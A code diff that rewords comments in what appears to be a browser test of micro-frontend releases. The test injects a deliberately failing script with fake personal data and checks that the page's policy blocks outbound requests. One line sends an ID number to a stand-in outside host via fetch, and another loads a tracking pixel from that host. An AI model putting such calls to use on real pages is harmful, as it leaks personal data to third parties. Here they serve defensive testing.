@@ -9,7 +9,7 @@ const apps = ['mfe-orders', 'mfe-analytics', 'mfe-settlements', 'mfe-admin']
 const versions = ['8.1.0', '8.2.0-rc.1']
 const secret = '900101350013 ann@demo.kz +77011234567'
 
-/** Keeps what the page sends: the content of a beacon can't be seen from outside. */
+/** Keeps the page's beacons, because their content is invisible from outside. */
 function keepBeacons(): void {
   const kept: Promise<string>[] = []
   Reflect.set(window, 'keptBeacons', kept)
@@ -26,7 +26,7 @@ const beacons = (page: Page): Promise<string[]> =>
     return Promise.all(kept)
   })
 
-/** A script of a release in which everything goes wrong that can: in timers, listeners, promises, below the browser's own code, at once. */
+/** A release's script with every kind of failure: in timers, listeners, promises, below the browser's own code, and at once. */
 const faulty = `(() => {
   const fail = () => { throw new Error('${secret}') }
   const deep = (n) => n === 0 ? null.${'size'} : deep(n - 1)
@@ -43,7 +43,7 @@ const faulty = `(() => {
   requestAnimationFrame(() => missing)
   Promise.reject(new Error('${secret}'))
   void (async () => { await null; (await undefined).name })()
-  // Two faults each: the policy refuses, and the code that asked for it fails or goes on.
+  // Each causes two faults: the policy refuses it, and its caller fails or goes on.
   fetch('https://elsewhere.example/?iin=900101350013')
   const picture = new Image()
   picture.src = 'https://elsewhere.example/pixel.gif'
